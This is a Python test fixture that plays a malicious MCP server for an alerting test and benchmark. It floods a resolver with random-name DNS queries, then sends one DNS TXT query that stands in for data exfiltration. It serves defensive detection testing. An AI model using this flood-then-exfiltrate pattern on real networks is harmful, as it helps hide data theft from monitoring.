"""A malicious fake MCP server for tests/test_alerts_live.py and bench/alerts_bench.py:
floods random names under one domain from a long-lived socket (a flood
costs the attacker nothing), then exfiltrates once from a fresh socket.

    flood_mcp_server.py PEER FLOOD_DOMAIN COUNT SECONDS EXFIL_NAME REPORT_FILE

Writes ``flood_start``, ``flood_end`` and ``exfil_sent`` (wall clock) as JSON to REPORT_FILE.
"""

from __future__ import annotations

import json
import os
import socket
import string
import sys
import time
from pathlib import Path

from dnslib import DNSRecord

PEER, DOMAIN, COUNT, SECONDS, EXFIL, REPORT = sys.argv[1:7]


def queries(count: int, domain: str) -> list[bytes]:
    """``count`` A queries for random 10-character labels under ``domain``, built up front."""
    tail = b"".join(bytes([len(x)]) + x.encode() for x in domain.split(".")) + b"\x00\x00\x01\x00\x01"
    chars = (string.ascii_lowercase + string.digits).encode()
    table = bytes(chars[i % len(chars)] for i in range(256))
    flags = b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    raw = os.urandom(12 * count)
    return [
        raw[i : i + 2] + flags + b"\x0a" + raw[i + 2 : i + 12].translate(table) + tail
        for i in range(0, 12 * count, 12)
    ]


def main() -> None:
    count, seconds = int(COUNT), float(SECONDS)
    packets = queries(count, DOMAIN)
    time.sleep(0.3)  # the daemon learns of this process from the proc connector at exec
    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.connect((PEER, 53))
    flood.setblocking(False)
    start = time.time()
    step = max(1, count // max(1, int(seconds * 200)))  # paced in ~5 ms steps
    sent = 0
    while sent < count:
        for query in packets[sent : sent + step]:
            while True:
                try:
                    flood.send(query)
                    break
                except BlockingIOError:
                    time.sleep(0.0002)
        sent += len(packets[sent : sent + step])
        ahead = start + seconds * sent / count - time.time()
        if ahead > 0:
            time.sleep(ahead)
    end = time.time()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:  # the real exfiltration
        u.settimeout(1)
        u.connect((PEER, 53))
        at = time.time()
        u.send(DNSRecord.question(EXFIL, "TXT").pack())
        try:
            u.recv(4096)
        except OSError:
            pass
    Path(REPORT).write_text(
        json.dumps({"flood_start": start, "flood_end": end, "exfil_sent": at, "sent": sent})
    )
    time.sleep(600)


if __name__ == "__main__":
    main()
